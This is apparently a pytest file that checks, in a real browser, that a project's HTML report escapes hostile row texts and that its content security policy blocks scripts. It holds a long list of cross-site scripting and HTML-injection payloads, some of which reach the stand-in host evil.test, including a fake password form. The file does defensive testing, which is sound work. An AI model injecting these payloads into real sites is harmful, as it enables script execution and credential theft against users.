"""Hostile row texts in a real browser: no script of theirs runs, and the page is structured as with plain text.

The texts follow the categories of OWASP's "XSS Filter Evasion" and "Cross Site Scripting Prevention" cheat sheets. Two
layers are tested one at a time: escaping without the content security policy, and the policy with unescaped texts.
Without both layers the scripts do run, which shows that the test can detect them.
"""

from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pytest

from helpers.browser import needs_browser, running_browser
from sealtune.core.config_io import build_config
from sealtune.core.types import Drop, Response, Scores, Verdict
from sealtune.evaluation.comparison import MethodResult
from sealtune.evaluation.judging import tabulate
from sealtune.pipeline.compare import _write
from sealtune.report.page import render
from sealtune.report.view import ReportView

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = needs_browser

RUN = "document.documentElement.dataset.owned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": "<script src=https://evil.test/x.js></script>",
    "script as data": f"<script src='data:text/javascript,{RUN}'></script>",
    "unclosed script": f"<script>{RUN}//",
    "module": f"<script type=module>{RUN}</script>",
    "out of a script": f"</script><script>{RUN}</script>",
    "out of a style": f"</style><script>{RUN}</script>",
    "out of a title": f"</title><script>{RUN}</script>",
    "out of a textarea": f"</textarea></pre></details></section><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script><!--",
    "out of CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "into a comment": "<!-- everything after this is hidden",
    "image": f"<img src=x onerror={RUN}>",
    "image with slashes": f"<img/src=x/onerror={RUN}//",
    "image with backticks": f"<img src=`x` onerror=`{RUN}`>",
    "image with a NUL": f"<im\0g src=x onerror={RUN}>",
    "image with line breaks": f"<img\nsrc=x\r\nonerror\t=\n{RUN}>",
    "image with a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "image of several sources": f"<img srcset='x 1x, y 2x' onerror={RUN}>",
    "svg": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>here</text></a></svg>",
    "svg foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "body": f"<body onload={RUN}>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "toggle": f"<details open ontoggle={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
    "marquee": f"<marquee onstart={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}>",
    "double quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "no quote": f"x onmouseover={RUN} tabindex=1 autofocus onfocus={RUN}",
    "quote and tag": f"\"'><img src=x onerror={RUN}>",
    "javascript address": f"<a href=javascript:{RUN}>the report</a>",
    "javascript address with entities": f"<a href='&#106;&#x61;vascript&colon;{RUN}'>the report</a>",
    "javascript address with a tab": f"<a href='jav&#x09;ascript:{RUN}'>the report</a>",
    "javascript address as text": f"javascript:{RUN}",
    "vbscript address": "<a href='vbscript:msgbox(1)'>the report</a>",
    "data address": f"<a href='data:text/html,<script>{RUN}</script>'>the report</a>",
    "frame": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "frame of a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    "embed": "<embed src='data:image/svg+xml,<svg/>'>",
    "base element": "<base href=https://evil.test/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "another policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "link": "<link rel=stylesheet href=https://evil.test/x.css>",
    "style": "<style>body{display:none} dd{visibility:hidden}</style>",
    "style import": "<style>@import 'https://evil.test/x.css'</style>",
    "style attribute": "<div style='position:fixed;inset:0;background:url(https://evil.test/x)'>all is safe</div>",
    "style expression": f"<b style='width:expression({RUN})'>x</b>",
    "form": "<form action=https://evil.test><input name=password><button>Sign in again</button></form>",
    "button": f"<form id=f></form><button form=f formaction=javascript:{RUN} autofocus>Go</button>",
    "clobbered names": "<form id=figure-data name=Plotly><input name=textContent></form><a id=documentElement>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities without a semicolon": f"&#60script&#62{RUN}&#60/script&#62",
    "entities in hex": f"&#x3c;img src=x onerror={RUN}&#x3e;",
    "escapes of JavaScript": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "escapes of addresses": "%3Cscript%3Ealert(1)%3C/script%3E",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "out of a string": f'"}};{RUN};//',
    "out of a string by an escape": f'\\";{RUN};//',
    "out of JSON": f'"}}]}}</script><script>{RUN}</script>',
    "line separators": f"\u2028{RUN}\u2029",
    "template of the page": "{{ 7 * 7 }}{% raw %}{{ view.config }}",
    "template literal": f"${{{RUN}}}`${{{RUN}}}`",
    "moustache in a browser": "{{constructor.constructor('alert(1)')()}}",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template element": f"<template shadowrootmode=open><script>{RUN}</script>",
    "custom element": f"<x-y tabindex=1 autofocus onfocus={RUN}>",
    "table parts": f"</td></tr></table><img src=x onerror={RUN}><table><tr><td>",
    "many open tags": "<b>" * 600,
    "figure markup": f"<a href=\"javascript:{RUN}\">x</a><br><sup>2</sup><span style='fill:red'>y</span>",
    "figure template": "%{x}<extra></extra>$\\href{javascript:alert(1)}{x}$",
    "forged heading": "</p></section><section><h2>Verdict</h2><p>All rows are safe.</p>",
    "bidirectional controls": "\u202eelbisiver\u202c \u2066hidden\u2069 \u200f\u061c",
    "lone surrogates": f"\ud800<script>{RUN}</script>\udfff",
    "byte order mark": f"\ufeff\ufffe<script>{RUN}</script>",
    "controls": "\x00\x07\x08\x1b[2J\x1b]0;owned\x07\x7f\x9b31m",
    "prototype": "__proto__",
    "long": "A" * 2_000,
}
PLAIN = [f"plain {i}" for i in range(len(PAYLOADS))]
VOID = frozenset({"meta", "link", "img", "input", "br", "hr", "col", "source", "embed", "base", "wbr"})
INVISIBLE = set(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200F, 0x61C, 0x1B, 0x7, 0x2028, 0xFEFF]))


class Structure(HTMLParser):
    """The elements outside figures, with attribute names, classes and links, and the tags inside figures."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.in_figures, self.owned, self.open, self.texts = Counter(), set(), False, [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        named = dict(attributes)
        self.owned |= "data-owned" in named
        mark = named.get("class") == "hidden-char"
        figure = (named.get("id") or "").startswith("figure-") and tag != "script"
        if any(self.open):
            self.in_figures.add(tag)
        elif not mark:
            shown = tuple((key, named[key]) for key in ("class", "href", "id", "http-equiv") if key in named)
            self.elements[tag, tuple(sorted(named)), shown] += 1  # counted, because tables are sorted by text
        if tag not in VOID:
            self.open.append(figure)

    def handle_endtag(self, tag):
        self.open.pop()

    def handle_data(self, data):
        self.texts.append(data)


@pytest.fixture(scope="module")
def browse(tmp_path_factory):
    """The structure of a page after its scripts have run."""
    path = tmp_path_factory.mktemp("browser") / "page.html"
    with running_browser() as browser:

        def structure(text):
            path.write_text(text, encoding="utf-8")
            tab = browser.new_page()
            tab.goto(path.as_uri())
            if 'id="row-data"' in text:
                tab.wait_for_selector("html[data-ready]", state="attached")
            tab.wait_for_timeout(500)  # scripts of the texts, if any runs, have run
            found = Structure(tab.content())
            tab.close()
            assert found.elements, "the browser returned no page"
            return found

        yield structure


def report(texts):
    """A report with each of the texts in every place where text can appear."""
    n = len(texts)
    ids = [text.encode("utf-8", "backslashreplace").decode() for text in texts]  # as loading returns them
    score = np.arange(n, dtype=float)
    missing, verdicts = np.full(n, np.nan), verdicts_on(texts, texts)
    view = ReportView(
        title=texts[0],
        config={"model_name_or_path": texts[0]} | {text: [text] for text in texts},
        manifest={"command": texts[1], "versions": {t: t for t in texts}, "stages": {t: {t: t} for t in texts}},
        scores=Scores(tuple(ids), tuple(ids), score, np.ones(n), missing, missing, np.ones(n, np.int64)),
        texts={row_id: (text, text) for row_id, text in zip(ids, texts, strict=True)},
        kept=frozenset(ids[n // 2 :]),
        borderline=frozenset(ids[:5]),
        drops=[Drop(i, i, text, text, {}) for i, text in zip(ids, texts, strict=True)],
        evaluation=table_of(verdicts),
        responses=answers(texts, texts),
        verdicts=verdicts,
        labels={row_id: i % 2 for i, row_id in enumerate(ids)},
        rows_shown=n,
    )
    return render(view)


def answers(texts, models):
    return [Response(t, m, t, "harmful", t, t, 1, False) for t, m in zip(texts, models, strict=True)]


def verdicts_on(texts, models):
    """Verdicts, half of which are missing for a reason."""
    return [
        Verdict(t, m, t, "harmful", t, "failed" if i % 2 else t, bool(i % 3), error=t if i % 2 else None)
        for i, (t, m) in enumerate(zip(texts, models, strict=True))
    ]


def table_of(verdicts):
    """The evaluation table of these verdicts, with hostile text in every text column."""
    rows = tabulate([replace(verdict, judge="refusal") for verdict in verdicts])
    return [row | {"judge": row["model"], "title": row["model"]} for row in rows]


def comparison(texts, folder):
    """compare.html with the texts as prompts, models, judges and errors."""
    config = build_config(
        {"model_name_or_path": texts[0], "output_dir": str(folder), "report": {"rows_shown": len(texts)}}
    )
    texts = [text.encode("utf-8", "replace").decode() for text in texts]  # a file cannot hold a lone surrogate
    models = ["random"] * len(texts)
    table = [row | {"seeds": 1, "sd": None, "difference": None} for row in table_of(verdicts_on(texts, models))]
    part = MethodResult("random", 0, table, answers(texts, models), verdicts_on(texts, models), {})
    _write(config, table, [part], [{"method": "loss", "seed": 0, "error": text} for text in texts])
    return (folder / "compare.html").read_text(encoding="utf-8")


def page(kind, texts, folder):
    return report(texts) if kind == "report" else comparison(texts, folder)


def without_policy(text):
    start = text.index("<meta http-equiv")
    return text[:start] + text[text.index(">", start) + 1 :]


@pytest.mark.parametrize("kind", ["report", "comparison"])
def test_hostile_texts_run_no_script_and_keep_the_structure_of_the_page(browse, kind, tmp_path):
    hostile = without_policy(page(kind, list(PAYLOADS.values()), tmp_path))
    plain = without_policy(page(kind, PLAIN, tmp_path))
    found, expected = browse(hostile), browse(plain)
    assert not found.owned
    assert found.elements == expected.elements
    assert found.in_figures == expected.in_figures and "svg" in found.in_figures
    assert not INVISIBLE & set("".join(found.texts))
    addresses = {dict(shown).get("href", "#") for _, _, shown in found.elements}
    assert all(address.startswith("#") or address == "data:," for address in addresses)


@pytest.mark.parametrize("with_policy", [True, False])
def test_the_policy_alone_blocks_scripts(browse, with_policy):
    """Unescaped texts do not run under the policy, and do run without it."""
    text = report(PLAIN)
    raw = [PAYLOADS[name] for name in ("script", "image", "svg", "focus", "frame of a document")]
    for number, payload in enumerate(raw):
        text = text.replace(f">plain {number}<", f">{payload}<", 1)
    assert all(payload in text for payload in raw)
    assert browse(text if with_policy else without_policy(text)).owned is not with_policy
